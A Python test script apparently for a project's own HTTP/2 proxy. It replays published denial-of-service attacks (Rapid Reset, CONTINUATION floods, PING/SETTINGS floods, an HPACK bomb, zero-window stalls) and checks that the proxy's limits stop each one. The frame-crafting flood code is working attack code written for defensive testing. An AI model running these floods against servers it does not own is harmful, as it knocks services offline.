"""The published HTTP/2 attacks against the proxy, one a run; each shows
the limit that stops it. tests/h2.rs watches the proxy's memory around it.

    attack.py HOST:PORT CA-FILE ATTACK

Routes as conformance.py says, plus /stream: an upstream answering with an
endless body. Prints what happened; exits 1 if the limit did not hold.
The zero-window stall prints "stalled" once the proxy holds a body it
cannot send, and waits for a line on stdin before going on.
"""

import socket
import ssl
import struct
import sys
import time

import h2.events
import h2.settings

from peer import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    PING,
    RST_STREAM,
    SETTINGS,
    TIMEOUT,
    Fail,
    Lib,
    Raw,
    Target,
    code_name,
    frame,
)

# How long a flood may keep writing into a proxy that stopped reading
# before it counts as pushed back (its memory is what tests/h2.rs checks).
PUSHED_BACK = 2.0


def get(t, path):
    return [(":method", "GET"), (":scheme", "https"), (":path", path), (":authority", t.authority())]


def flood(raw, batch, limit):
    """Writes `batch` over and over, `limit` times at most, while the proxy
    reads; checks for its frames between writes only when `look` is set.
    Returns how it ended: 'goaway', 'closed', 'pushed back' or 'all sent'."""
    raw.sock.settimeout(PUSHED_BACK)
    try:
        for sent in range(limit):
            try:
                raw.send(batch)
            except socket.timeout:
                return "pushed back", sent
            except (BrokenPipeError, ConnectionResetError, ssl.SSLError):
                return "closed", sent
        return "all sent", limit
    finally:
        raw.sock.settimeout(TIMEOUT)


def goaway_of(f):
    """A GOAWAY frame as (error name, debug text, last stream)."""
    last = struct.unpack(">I", f.payload[:4])[0] & 0x7FFFFFFF
    return code_name(f.code()), f.payload[8:].decode(errors="replace"), last


def goaway_or_end(raw, quiet=None):
    """The GOAWAY the proxy sent (see goaway_of), or None if the
    connection ended (or, with `quiet`, fell silent that many seconds)
    without one reaching us."""
    if quiet is not None:
        raw.sock.settimeout(quiet)
    try:
        while True:
            f = raw.read()
            if f is None:
                return None
            if f.kind == GOAWAY:
                return goaway_of(f)
    except Fail:
        if quiet is None:
            raise
        return None


def rapid_reset(t):
    # CVE-2023-44487: open a stream and cancel it at once, thousands of
    # times a second; each costs the server an upstream request.
    raw = Raw(t)
    block = raw.block(get(t, "/hold"))
    stream, goaway = 1, None
    while stream < 20001 and goaway is None:
        out = b""
        for _ in range(50):
            out += frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
            out += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))  # CANCEL
            stream += 2
        try:
            raw.send(out)
        except (BrokenPipeError, ConnectionResetError, ssl.SSLError):
            break
        goaway = next((f for f in raw.available() if f.kind == GOAWAY), None)
    if goaway is None:
        got = goaway_or_end(raw)
    else:
        got = goaway_of(goaway)
    sent = stream // 2
    if got is None or got[0] != "ENHANCE_YOUR_CALM":
        raise Fail(f"{sent} streams opened and cancelled; the proxy sent {got}, expected GOAWAY ENHANCE_YOUR_CALM")
    # The budget is 200 resets: the GOAWAY names the last stream taken.
    taken = (got[2] + 1) // 2
    if taken > 250:
        raise Fail(f"GOAWAY ENHANCE_YOUR_CALM only after {taken} streams were taken")
    return (
        f"GOAWAY ENHANCE_YOUR_CALM ({got[1]}) naming stream {got[2]}: {taken} streams taken "
        f"of the {sent} the client wrote"
    )


def continuation_flood(fragment_len):
    # CVE-2024-27316 and kin: a field block that never ends, CONTINUATION
    # after CONTINUATION without END_HEADERS.
    def attack(t):
        raw = Raw(t)
        raw.send(frame(HEADERS, END_STREAM, 1, raw.block(get(t, "/hold"))))
        piece = frame(CONTINUATION, 0, 1, b"\x40\x01x\x01y" * (fragment_len // 5))
        sent, goaway = 0, None
        while sent < 20000 and goaway is None:
            try:
                raw.send(piece * 16)
            except (BrokenPipeError, ConnectionResetError, ssl.SSLError):
                break
            sent += 16
            goaway = next((f for f in raw.available() if f.kind == GOAWAY), None)
        got = goaway_or_end(raw) if goaway is None else goaway_of(goaway)
        if got is None or got[0] != "ENHANCE_YOUR_CALM":
            raise Fail(f"{sent} CONTINUATION frames of {fragment_len} octets; the proxy sent {got}")
        return (
            f"GOAWAY ENHANCE_YOUR_CALM ({got[1]}); the client had written {sent} "
            f"CONTINUATION frames of {fragment_len} octets when it read it"
        )

    return attack


def empty_data_flood(t):
    # CVE-2019-9518: DATA frames with no octets and no END_STREAM cost the
    # server a frame's work each and the client nothing (no window).
    raw = Raw(t)
    raw.headers(1, [(":method", "POST")] + get(t, "/hold")[1:])
    batch = frame(DATA, 0, 1) * 1000
    how, batches = flood(raw, batch, 200)
    got = goaway_or_end(raw, quiet=PUSHED_BACK)
    if got is None or got[0] != "ENHANCE_YOUR_CALM":
        raise Fail(f"{batches * 1000} empty DATA frames ({how}); the proxy sent {got}")
    return f"GOAWAY ENHANCE_YOUR_CALM ({got[1]}); the client had written {batches * 1000} empty DATA frames"


def hpack_int(n, prefix_bits, first=0):
    """An HPACK integer (RFC 7541 §5.1) with `first`'s high bits."""
    top = (1 << prefix_bits) - 1
    if n < top:
        return bytes([first | n])
    out, n = bytes([first | top]), n - top
    while n >= 128:
        out += bytes([n % 128 + 128])
        n //= 128
    return out + bytes([n])


def literal(name_index, value):
    """A field with a static name, its value literal, not indexed."""
    return hpack_int(name_index, 4) + hpack_int(len(value), 7) + value


def hpack_bomb(t):
    # A 4 000-octet field goes into the dynamic table once; then each
    # request refers to it 16 000 times with one octet each: 64 MB a
    # request, decoded. The list limit (32 KiB) answers 431 instead.
    raw = Raw(t)
    authority = t.authority().encode()
    head = b"\x82\x87" + literal(4, b"/http") + literal(1, authority)  # GET, https
    bomb = b"\x40" + hpack_int(6, 7) + b"x-bomb" + hpack_int(4000, 7) + b"a" * 4000
    raw.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, head + bomb))
    raw.expect_status(1, 200)
    refs = b"\xbe" * (16384 - len(head))  # index 62: the first dynamic entry
    statuses = {}
    for stream in range(3, 3 + 2 * 50, 2):
        raw.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, head + refs))
        f = raw.answer(stream)
        got = f.headers.get(":status") if f.kind == HEADERS else repr(f)
        statuses[got] = statuses.get(got, 0) + 1
    raw.ping_ok()
    if set(statuses) != {"431"}:
        raise Fail(f"answers to 50 bombs of 64 MB decoded: {statuses}, expected all 431")
    return "50 requests of 64 MB decoded each answered 431; the connection goes on"


def answer_flood(kind):
    # CVE-2019-9512 (PING) and CVE-2019-9515 (SETTINGS): frames that each
    # owe an answer, from a client that never reads the answers.
    def attack(t):
        raw = Raw(t)
        if kind == "PING":
            batch = frame(PING, 0, 0, b"12345678") * 8192
        else:
            batch = frame(SETTINGS, 0, 0) * 8192
        how, batches = flood(raw, batch, 400)
        frames = batches * 8192
        if how == "all sent":
            # Every frame read: its answers went to a buffer or were dropped.
            got = goaway_or_end(raw, quiet=PUSHED_BACK)
            raise Fail(f"{frames} {kind} frames taken from a client that never read, then {got}")
        if how == "pushed back":
            # The proxy stopped reading: what it holds is bounded by
            # what it read (tests/h2.rs checks its memory).
            return f"pushed back: the client's writes stopped after {frames} {kind} frames"
        got = goaway_or_end(raw, quiet=PUSHED_BACK)
        if got is None:
            return f"closed after the client wrote {frames} {kind} frames, no GOAWAY reached it"
        if got[0] != "ENHANCE_YOUR_CALM":
            raise Fail(f"{frames} {kind} frames unread: GOAWAY {got}")
        return (
            f"GOAWAY ENHANCE_YOUR_CALM ({got[1]}), then closed; the client had written "
            f"{frames} {kind} frames and read none of the answers"
        )

    return attack


def too_many_streams(t):
    # More streams than SETTINGS_MAX_CONCURRENT_STREAMS (100): the 101st
    # is refused (§5.1.2), and refusing costs the reset budget, so a client
    # that keeps trying gets ENHANCE_YOUR_CALM.
    raw = Raw(t)
    block = raw.block(get(t, "/hold"))
    raw.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, block) for i in range(100)))
    raw.ping_ok()  # all 100 taken before the next
    raw.send(frame(HEADERS, END_HEADERS | END_STREAM, 201, block))
    outcome = raw.expect_reset(201, "REFUSED_STREAM")
    stream, goaway = 203, None
    while stream < 5000 and goaway is None:
        try:
            raw.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream + 2 * i, block) for i in range(50)))
        except (BrokenPipeError, ConnectionResetError, ssl.SSLError):
            break
        stream += 100
        goaway = next((f for f in raw.available() if f.kind == GOAWAY), None)
    got = goaway_or_end(raw) if goaway is None else goaway_of(goaway)
    if got is None or got[0] != "ENHANCE_YOUR_CALM":
        raise Fail(f"{outcome} for stream 201; then {(stream - 201) // 2} more refused, and {got}")
    # Each refusal counts against the 200 resets allowed.
    refused = (got[2] - 201) // 2 + 1
    if refused > 250:
        raise Fail(f"GOAWAY ENHANCE_YOUR_CALM only after {refused} streams were refused")
    return f"stream 201 {outcome}; GOAWAY ENHANCE_YOUR_CALM ({got[1]}) naming stream {got[2]}: {refused} refused"


def zero_window_stall(t):
    # A client that announces a window of 0 and never opens it, on an
    # endless response: the proxy must stop reading the upstream instead of
    # buffering the body (RFC 9113 §6.9 leaves it the memory to protect).
    lib = Lib(t, settings={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
    lib.wait(lambda e: isinstance(e, h2.events.SettingsAcknowledged), "the ACK of our SETTINGS")
    stream = lib.request(get(t, "/stream"))
    answer = lib.response(stream)
    if answer.get(":status") != "200":
        raise Fail(f"/stream answered {answer}")
    print("stalled", flush=True)
    if sys.stdin.readline().strip() != "go on":
        raise Fail("tests/h2.rs did not say go on")
    early = [e for e in lib.pending if isinstance(e, h2.events.DataReceived)]
    if early:
        raise Fail(f"DATA beyond a window of 0: {early[:3]}")
    # Opened at last, the body flows.
    lib.conn.increment_flow_control_window(65535, stream_id=stream)
    lib.flush()
    got, ended = lib.received(stream, lambda b: len(b) >= 65535)
    return f"nothing sent into a window of 0; {len(got)} octets once it opened"


ATTACKS = {
    "rapid-reset": rapid_reset,
    "continuation-flood": continuation_flood(16000),
    "continuation-trickle": continuation_flood(5),
    "hpack-bomb": hpack_bomb,
    "empty-data-flood": empty_data_flood,
    "settings-flood": answer_flood("SETTINGS"),
    "ping-flood": answer_flood("PING"),
    "too-many-streams": too_many_streams,
    "zero-window-stall": zero_window_stall,
}


if __name__ == "__main__":
    target, name = Target.from_argv(sys.argv[1:3]), sys.argv[3]
    started = time.monotonic()
    try:
        print(f"ok    {name}: {ATTACKS[name](target)} ({time.monotonic() - started:.2f}s)")
    except (Fail, OSError) as e:
        print(f"FAIL  {name}: {type(e).__name__}: {e} ({time.monotonic() - started:.2f}s)")
        sys.exit(1)
